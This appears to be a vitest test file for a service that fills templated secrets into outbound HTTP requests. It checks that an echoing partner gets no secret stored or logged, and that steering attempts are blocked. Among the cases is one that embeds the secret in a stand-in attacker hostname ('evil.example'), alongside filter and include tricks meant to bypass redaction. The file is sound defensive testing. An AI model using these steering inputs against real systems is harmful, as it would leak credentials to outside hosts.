/**
 * Issue 18: secrets are references. A partner that echoes everything back (200, 4xx, 5xx,
 * redirect) in every common spelling gets nothing stored: no secret in any Redis key of any
 * type, any log line or any API answer. A secret cannot be put in the host or through a filter.
 */
import type http from 'node:http';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHarness, jobData, type Harness } from '../helpers/harness.js';
import { startUpstream, type Recorded, type Upstream } from '../helpers/upstream.js';
import { waitFor } from '../helpers/wait.js';
import { dumpNamespace } from '../helpers/redis.js';
import { buildServer } from '../../src/api/server.js';
import { createProducerApi, type ProducerApi } from '../../src/api/producers.js';

// '/', '+' and '=' make the URL-, form- and base64 spellings all differ from the value.
const SECRET = 'Sk_Live/Echo+Key=9Zq';
const b64 = (s: string) => Buffer.from(s).toString('base64');

/** Every spelling the partner echoes, each of which must be found nowhere. */
const SPELLINGS = [
  SECRET,
  SECRET.toLowerCase(),
  SECRET.toUpperCase(),
  encodeURIComponent(SECRET),
  encodeURIComponent(SECRET).toLowerCase(),
  new URLSearchParams({ v: SECRET }).toString().slice(2),
  b64(SECRET),
  b64(SECRET).replace(/\+/g, '-').replace(/\//g, '_'),
  // The value inside a longer base64 blob (Basic auth), at each byte alignment.
  ...['u:', 'us:', 'use:'].map((p) => b64(p + SECRET).slice(4, 16)),
];

let h: Harness;
let up: Upstream;
let producers: ProducerApi;
let api: FastifyInstance;

/** Echoes the request back in every spelling, in the body, in headers and in a Location. */
function echo(r: Recorded, res: http.ServerResponse) {
  const key = String(r.headers['x-key'] ?? '');
  const status = Number(/\/(\d{3})/.exec(r.url)?.[1] ?? 200);
  const body = JSON.stringify({
    url: r.url,
    headers: r.headers,
    body: r.body,
    lower: key.toLowerCase(),
    upper: key.toUpperCase(),
    b64: b64(key),
    basic: `Basic ${b64(`user:${key}`)}`,
    url_encoded: encodeURIComponent(key),
    unicode_escaped: key
      .split('')
      .map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
      .join(''),
  });
  res.writeHead(status, {
    'content-type': 'application/json',
    'x-request-id': key,
    location: `https://elsewhere.example/cb?k=${encodeURIComponent(key)}&raw=${key}`,
  });
  res.end(body);
}

beforeAll(async () => {
  up = await startUpstream(echo);
  h = await startHarness({
    INVOKE_SECRET_ECHO: SECRET,
    INVOKE_SECRET_ECHO_HOSTS: '127.0.0.1',
    INVOKE_SECRET_OTHER: 'Other-Secret-77',
    LOG_LEVEL: 'debug',
  });
  producers = createProducerApi(h.cfg);
  api = await buildServer({
    cfg: h.cfg,
    logger: (await import('pino')).pino({ level: 'silent' }),
    readiness: { checks: {} },
    plugins: producers.plugins,
  });
});
afterAll(async () => {
  await api?.close();
  await producers?.close();
  await h?.close();
  await up?.close();
});

function findLeaks(text: string): string[] {
  return SPELLINGS.filter((s) => text.includes(s));
}

async function run(request: Record<string, unknown>) {
  const data = jobData({ request });
  const job = await h.queue.add('invoke', data, { attempts: 1 });
  await waitFor(
    async () => ['failed', 'completed'].includes(await h.queue.getJobState(job.id!)) || undefined,
    `job ${job.id} to finish`,
  );
  const answer = await api.inject({ method: 'GET', url: `/v1/invocations/${job.id}` });
  return {
    data,
    job: (await h.queue.getJob(job.id!))!,
    answer: answer.body,
    context: await h.context(data.runId),
  };
}

const withSecret = (path: string) => ({
  method: 'POST',
  url: `${up.url}/${path}/{{ secrets.ECHO }}`,
  query: { k: '{{ secrets.ECHO }}' },
  headers: { 'x-key': '{{ secrets.ECHO }}', authorization: 'Bearer {{ secrets.ECHO }}' },
  body: { key: '{{ secrets.ECHO }}', nested: ['a {{ secrets.ECHO }} b'] },
});

describe('an echoing partner gets no secret stored or shown', () => {
  it('200, 400, 500 and a redirect: the partner got the value; no key, log line or API answer holds it', async () => {
    const runs = [];
    for (const status of ['200', '400', '500', '302']) runs.push(await run(withSecret(status)));
    // The value really was sent, in each place, encoded for where it sits.
    const sent = up.requests.slice(-4);
    for (const r of sent) {
      expect(r.headers['x-key']).toBe(SECRET);
      expect(r.headers.authorization).toBe(`Bearer ${SECRET}`);
      expect(r.url).toContain(`/${encodeURIComponent(SECRET)}?k=${encodeURIComponent(SECRET)}`);
      expect(JSON.parse(r.body)).toEqual({ key: SECRET, nested: [`a ${SECRET} b`] });
    }
    expect(runs[0]!.context.loyalty.ok).toBe(true);
    expect(runs[1]!.job.failedReason).toMatch(/^HTTP_STATUS: 127\.0\.0\.1\/400\/__secret_/);
    expect(runs[3]!.context.loyalty.headers.location).toContain('[REDACTED]');
    expect(runs[0]!.context.loyalty.body.headers['x-key']).toBe('[REDACTED]');

    const everything = [
      await dumpNamespace(h.redis, h.ns),
      h.logs.join('\n'),
      ...runs.map((r) => r.answer),
    ].join('\n');
    expect(everything).toContain('[REDACTED]');
    expect(findLeaks(everything)).toEqual([]);
  });
});

describe('a secret cannot be steered', () => {
  const cases: [string, Record<string, unknown>, RegExp][] = [
    [
      'into the host',
      { url: 'http://x{{ secrets.ECHO }}.evil.example/' },
      /^TEMPLATE_ERROR: request\.url: secrets\.ECHO may not be part of the host/,
    ],
    [
      'into the host through a whole-URL output',
      { url: '{{ secrets.ECHO }}' },
      /^TEMPLATE_ERROR: request\.url: /,
    ],
    [
      'through upcase',
      { url: 'http://127.0.0.1:1/x', headers: { 'x-a': '{{ secrets.ECHO | upcase }}' } },
      /^TEMPLATE_ERROR: request\.headers\.x-a: secrets\.ECHO was passed through a filter/,
    ],
    [
      'through slice and downcase',
      {
        url: 'http://127.0.0.1:1/x',
        headers: { 'x-a': '{{ secrets.ECHO | slice: 2, 30 | downcase }}' },
      },
      /^TEMPLATE_ERROR: request\.headers\.x-a: .*was passed through a filter/,
    ],
    [
      'into an include',
      { url: 'http://127.0.0.1:1/x', headers: { 'x-a': '{% include secrets.ECHO | upcase %}' } },
      /^TEMPLATE_ERROR: request\.headers\.x-a: the include tag is not supported/,
    ],
  ];
  for (const [name, request, message] of cases) {
    it(name, async () => {
      const before = up.requests.length;
      const r = await run(request);
      expect(r.job.failedReason).toMatch(message);
      expect(r.job.attemptsMade).toBe(1);
      expect(up.requests.length).toBe(before);
      const everything = [await dumpNamespace(h.redis, h.ns), h.logs.join('\n'), r.answer].join(
        '\n',
      );
      expect(findLeaks(everything)).toEqual([]);
    });
  }

  it('another host may not receive a bound secret (URL_BLOCKED before filling in)', async () => {
    const r = await run({ url: 'http://localhost:1/{{ secrets.ECHO }}' });
    expect(r.job.failedReason).toMatch(/^URL_BLOCKED: /);
    expect(
      findLeaks([await dumpNamespace(h.redis, h.ns), h.logs.join('\n'), r.answer].join('\n')),
    ).toEqual([]);
  });
});
